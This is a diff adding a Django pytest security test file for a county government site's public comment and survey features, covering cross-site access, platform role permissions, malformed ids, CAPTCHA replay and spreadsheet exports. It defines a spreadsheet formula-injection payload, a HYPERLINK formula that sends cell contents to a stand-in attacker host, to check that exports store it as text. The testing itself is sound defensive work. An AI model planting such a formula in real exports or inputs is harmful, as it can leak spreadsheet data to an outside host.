@@ -1,0 +1,235 @@
+"""意见征集 and 网上调查 attacked: another site's staff, platform roles and a hostile citizen, through the real views.
+
+Each test names what was tried; those guarding a defect found by this review say so."""
+
+import io
+
+import pytest
+import time_machine
+from django.contrib.auth.models import Group
+from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
+from wagtail.models import PageViewRestriction
+
+from consultations import surveys
+from consultations.models import Comment, SurveyAnswer, SurveyResponse
+from sitegroup.models import SiteIdentity
+from sitegroup.platform import AUDIT_ADMIN_GROUP, SECURITY_ADMIN_GROUP, SYSTEM_ADMIN_GROUP
+from tests.citizen_mailbox.conftest import captcha_answer
+from tests.consultations.moderation_world import comment_on, consultation_on
+from tests.consultations.test_surveys import NOW, add_survey, answers, csv_rows, export, exporter, respond, survey_index
+from tests.factories import UserFactory
+
+pytestmark = pytest.mark.django_db
+
+HOST = "county-a.localhost"
+LIST = "consultations_comments"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+@pytest.fixture(autouse=True)
+def frozen():
+    """The surveys of tests.consultations.test_surveys are open at its NOW."""
+    with time_machine.travel(NOW, tick=False):
+        yield
+
+
+def staff(site, role):
+    return UserFactory(groups=[site.groups[role]])
+
+
+def visitor(number=1):
+    return Client(HTTP_HOST=HOST, REMOTE_ADDR=f"10.9.0.{number}")
+
+
+@pytest.fixture
+def two_counties(site_group):
+    own = consultation_on(site_group.county_a.home, title="甲县征求意见稿")
+    other = consultation_on(site_group.county_b.home, title="乙县征求意见稿")
+    comment_on(own, site_group.county_a.home, content="甲县的意见")
+    comment_on(other, site_group.county_b.home, content="乙县的意见", contact="乙县联系电话")
+    return own, other
+
+
+# --- 意见审核: the list's ?consultation= filter -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["other_site", "abc", "-1", "99999999999999999999999", "1e9", "²", ""])
+@pytest.mark.parametrize("url_name", [LIST, f"{LIST}_results"])
+def test_the_list_filtered_by_a_foreign_bad_or_huge_id_shows_only_the_users_sites(
+    client, site_group, two_counties, value, url_name
+):
+    """Defect found: an id beyond the database's integers made the list (and its results view) a 500."""
+    own, other = two_counties
+    client.force_login(staff(site_group.county_a, "编辑"))
+    response = client.get(reverse(url_name), {"consultation": other.pk if value == "other_site" else value})
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "乙县的意见" not in html and "乙县联系电话" not in html
+    assert "甲县的意见" in html
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_the_lists_spreadsheet_export_carries_no_comment(client, site_group, two_counties, export_format):
+    """ReportView answers ?export=; the list declares no export columns, so nothing (no contact) leaves with it."""
+    client.force_login(UserFactory(groups=[Group.objects.get(name=AUDIT_ADMIN_GROUP)]))
+    response = client.get(reverse(LIST), {"export": export_format})
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if export_format == "xlsx":
+        sheet = load_workbook(io.BytesIO(body)).active
+        body = repr([[cell.value for cell in row] for row in sheet.iter_rows()]).encode()
+    assert "意见".encode() not in body and "联系电话".encode() not in body
+
+
+def test_the_security_administrator_does_not_read_the_citizens_comments(client, site_group, two_counties):
+    client.force_login(UserFactory(groups=[Group.objects.get(name=SECURITY_ADMIN_GROUP)]))
+    response = client.get(reverse(LIST))
+    assert response.status_code in (302, 403)
+    comment = Comment.objects.get(content="乙县的意见")
+    assert client.get(reverse("consultations_comment", args=[comment.pk])).status_code in (302, 403, 404)
+
+
+@pytest.mark.parametrize("group", [SYSTEM_ADMIN_GROUP, AUDIT_ADMIN_GROUP])
+def test_platform_roles_read_the_list_but_cannot_moderate_or_see_contacts(client, site_group, two_counties, group):
+    client.force_login(UserFactory(groups=[Group.objects.get(name=group)]))
+    comment = Comment.objects.get(content="乙县的意见")
+    detail = client.get(reverse("consultations_comment", args=[comment.pk]))
+    assert detail.status_code == 200 and "乙县联系电话" not in detail.content.decode()
+    refused = client.post(reverse("consultations_comment", args=[comment.pk]), {"status": "approved"})
+    assert refused.status_code in (302, 403)
+    comment.refresh_from_db()
+    assert comment.status == "pending" and comment.moderated_by is None
+
+
+# --- the survey export --------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def survey(site_group):
+    return add_survey(survey_index(site_group.county_a.home))
+
+
+def test_a_citizens_formula_is_text_in_the_xlsx_export(survey, site_group, make_user):
+    """Defect found: openpyxl stores a string starting with '=' as a formula, so a free-text answer ran as one."""
+    respond(survey, "1路", ["准点"], "5", FORMULA)
+    xlsx = export(exporter(make_user, site_group.county_a), survey.pk, "xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    answer = list(sheet.iter_rows())[1][5]
+    assert answer.data_type == "s" and answer.value == FORMULA
+
+
+def test_a_question_written_as_a_formula_is_text_in_both_exports(survey, site_group, make_user):
+    """Defect found: the header row (the editors' question texts) skipped the CSV quoting and the XLSX guard."""
+    survey.questions.filter(sort_order=3).update(text="=1+1")
+    respond(survey, "1路", ["准点"], "5", "")
+    user = exporter(make_user, site_group.county_a)
+    assert csv_rows(export(user, survey.pk))[0][5] == "'=1+1"
+    sheet = load_workbook(io.BytesIO(export(user, survey.pk, "xlsx").content)).active
+    header = list(sheet.iter_rows())[0][5]
+    assert header.data_type == "s" and header.value == "=1+1"
+
+
+# --- a hostile citizen ----------------------------------------------------------------------------------------
+
+
+def comment_url(page):
+    return page.get_url_parts()[2] + "comment/"
+
+
+def comment_data(client, page, **overrides):
+    form = client.get(comment_url(page))
+    assert form.status_code == 200
+    hashkey, answer = captcha_answer(form)
+    return {"content": "建议增加过渡期。", "captcha_0": hashkey, "captcha_1": answer, **overrides}
+
+
+@pytest.mark.parametrize("section", ["0", "2", "-1", "1.5", "99999999999999999999", "x"])
+def test_a_section_the_draft_has_not_is_refused_and_nothing_stored(site_group, section):
+    consultation = consultation_on(site_group.county_a.home)
+    client = visitor()
+    response = client.post(comment_url(consultation), comment_data(client, consultation, section=section))
+    assert response.status_code == 400 and not Comment.objects.exists()
+
+
+@pytest.mark.parametrize("section", ["²", "٣", "99999999999999999999", "0", "x"])
+def test_the_form_asked_for_a_section_the_draft_has_not_preselects_none(site_group, section):
+    """Defect found: ?section=² (a digit to str.isdigit, not to int) made the comment form a 500."""
+    consultation = consultation_on(site_group.county_a.home)
+    response = visitor().get(comment_url(consultation), {"section": section})
+    assert response.status_code == 200
+    assert response.context["form"]["section"].value() in (None, "")
+
+
+def test_a_replayed_captcha_is_refused_and_stores_one_comment(site_group):
+    consultation = consultation_on(site_group.county_a.home)
+    client = visitor()
+    data = comment_data(client, consultation)
+    assert client.post(comment_url(consultation), data).status_code == 200
+    assert client.post(comment_url(consultation), data).status_code == 400
+    assert Comment.objects.count() == 1
+
+
+@pytest.mark.parametrize("restriction", ["login", "password"])
+def test_a_view_restricted_consultation_takes_no_comment(site_group, restriction):
+    consultation = consultation_on(site_group.county_a.home)
+    client = visitor()
+    data = comment_data(client, consultation)
+    PageViewRestriction.objects.create(page=consultation, restriction_type=restriction, password="secret")
+    response = client.post(comment_url(consultation), data)
+    assert response.status_code in (200, 302) and "感谢您的意见" not in response.content.decode()
+    assert not Comment.objects.exists()
+
+
+def test_a_held_sites_consultation_takes_no_comment(site_group):
+    consultation = consultation_on(site_group.county_a.home)
+    client = visitor()
+    data = comment_data(client, consultation)
+    SiteIdentity.objects.filter(site=site_group.county_a.site).update(icp_number="")
+    assert client.post(comment_url(consultation), data).status_code == 503
+    assert not Comment.objects.exists()
+
+
+def test_an_unpublished_consultation_takes_no_comment(site_group):
+    consultation = consultation_on(site_group.county_a.home)
+    client = visitor()
+    data = comment_data(client, consultation)
+    consultation.unpublish()
+    assert client.post(comment_url(consultation), data).status_code == 404
+    assert not Comment.objects.exists()
+
+
+def answer_url(survey):
+    return survey.url + "answer/"
+
+
+def post_answers(client, survey, **overrides):
+    form = client.get(answer_url(survey))
+    hashkey, answer = captcha_answer(form)
+    return client.post(answer_url(survey), {**answers(survey), "captcha_0": hashkey, "captcha_1": answer, **overrides})
+
+
+def test_one_surveys_cookie_does_not_close_another_survey(survey, site_group):
+    other = add_survey(survey_index(site_group.county_a.home), title="另一项调查", slug="other")
+    client = visitor()
+    assert post_answers(client, survey).status_code == 200
+    answered = client.cookies[surveys.cookie_name(survey)].value
+    # The same signed value under the other survey's name is not the other survey's mark.
+    client.cookies[surveys.cookie_name(other)] = answered
+    assert post_answers(client, other).status_code == 200
+    assert SurveyResponse.objects.filter(survey=other).count() == 1
+
+
+def test_two_values_for_a_single_choice_store_one_answer(survey):
+    single = surveys.field_name(survey.questions.get(sort_order=0))
+    response = post_answers(visitor(), survey, **{single: ["1路", "2路"]})
+    assert response.status_code == 200
+    assert SurveyAnswer.objects.filter(question__sort_order=0).count() == 1
+
+
+def test_an_answer_to_another_surveys_question_is_ignored(survey, site_group):
+    other = add_survey(survey_index(site_group.county_a.home), title="另一项调查", slug="other")
+    foreign = surveys.field_name(other.questions.get(sort_order=3))
+    assert post_answers(visitor(), survey, **{foreign: "不相干"}).status_code == 200
+    assert not SurveyAnswer.objects.filter(value="不相干").exists()
+    assert not SurveyResponse.objects.filter(survey=other).exists()
